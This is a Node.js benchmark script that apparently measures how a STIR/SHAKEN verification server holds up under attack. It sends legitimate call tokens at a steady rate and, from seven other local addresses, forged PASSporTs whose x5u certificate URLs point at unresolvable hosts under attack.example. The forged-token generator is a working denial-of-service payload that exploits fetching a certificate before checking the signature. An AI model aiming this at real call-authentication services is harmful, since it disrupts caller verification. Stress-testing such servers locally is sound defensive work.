// Posts warm calls at a steady pace from one address and, from seven others, PASSporTs whose x5u hosts never resolve. See dns-attack.sh.
import { randomBytes } from 'node:crypto'
import { readFileSync } from 'node:fs'
import http from 'node:http'

const [url, tokensPath, server, secondsText, ...rates] = process.argv.slice(2)
const seconds = Number(secondsText)
const warmPerSecond = 200
const attackers = 7
const tokens = readFileSync(tokensPath, 'latin1').trim().split('\n')
const agents = Array.from({ length: attackers + 1 }, () => new http.Agent({ keepAlive: true, maxSockets: 256 }))
const base64url = (text) => Buffer.from(text, 'latin1').toString('base64url')
let next = 0
let host = 0

function post(body, agent) {
  return new Promise((resolve) => {
    const began = process.hrtime.bigint()
    const headers = { 'Content-Type': 'application/passport', 'Content-Length': Buffer.byteLength(body) }
    const request = http.request(`${url}/cps/company/5678`, { method: 'POST', agent: agents[agent], localAddress: `127.0.0.${agent + 1}`, headers }, (response) => {
      response.resume()
      response.on('end', () => resolve({ status: response.statusCode, ms: Number(process.hrtime.bigint() - began) / 1e6 }))
    })
    request.on('error', () => resolve({ status: 0, ms: Number(process.hrtime.bigint() - began) / 1e6 }))
    request.end(body)
  })
}

// Everything is right but the host, and the signature, which nobody looks at before the certificate is there.
function forged() {
  const [, payload] = tokens[0].split('.')
  const header = base64url(JSON.stringify({ alg: 'ES256', ppt: 'shaken', typ: 'passport', x5u: `https://${++host}.attack.example/${randomBytes(4).toString('hex')}.pem` }))
  return `${header}.${payload}.${randomBytes(64).toString('base64url')}`
}

async function paced(perSecond, until, act) {
  const pending = []
  const began = Date.now()
  for (let index = 0; ; index++) {
    const due = began + (index * 1000) / perSecond
    if (due >= until) break
    const wait = due - Date.now()
    if (wait > 0) await new Promise((resolve) => setTimeout(resolve, wait))
    pending.push(act(index))
  }
  return pending
}

const at = (sorted, share) => sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * share))]
const process_ = (name) => /\d+/.exec(readFileSync(`/proc/${server}/status`, 'latin1').split('\n').find((line) => line.startsWith(name)))[0]

await Promise.all(await paced(warmPerSecond, Date.now() + 8000, () => post(tokens[next++], 0)))
console.log('| attack requests/s | warm calls | not 201 | p50 ms | p99 ms | slowest ms | attack answers | threads | MiB |')
console.log('| ---: | ---: | ---: | ---: | ---: | ---: | --- | ---: | ---: |')
for (const text of rates) {
  const rate = Number(text)
  const answers = {}
  const until = Date.now() + seconds * 1000
  const attack = rate === 0 ? Promise.resolve([]) : paced(rate, until, async (index) => {
    const { status } = await post(forged(), 1 + (index % attackers))
    answers[status] = (answers[status] ?? 0) + 1
  })
  const warm = await Promise.all(await paced(warmPerSecond, until, () => post(tokens[next++], 0)))
  const [threads, kib] = [process_('Threads:'), process_('VmRSS:')]
  await Promise.all(await attack)
  const times = warm.map((call) => call.ms).sort((one, other) => one - other)
  const bad = warm.filter((call) => call.status !== 201).length
  const told = Object.entries(answers).map(([status, count]) => `${count} × ${status}`).join(', ') || '–'
  console.log(`| ${rate} | ${times.length} | ${bad} | ${at(times, 0.5).toFixed(2)} | ${at(times, 0.99).toFixed(2)} | ${times.at(-1).toFixed(1)} | ${told} | ${threads} | ${Math.round(kib / 1024)} |`)
}
process.exit(0)
